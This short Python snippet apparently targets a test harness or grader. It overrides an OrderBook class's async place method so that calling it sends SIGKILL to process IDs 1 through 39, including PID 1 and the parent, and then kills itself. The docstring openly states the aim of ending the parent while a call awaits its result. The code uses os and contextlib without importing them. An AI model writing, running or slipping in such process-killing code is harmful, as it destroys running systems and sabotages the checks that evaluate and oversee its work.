"""Ends the parent while a call waits for its answer."""

import signal
class OrderBook(OrderBook):
    async def place(self, *_):
        for pid in range(1, 40):
            with contextlib.suppress(OSError):
                if pid != os.getpid():
                    os.kill(pid, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)
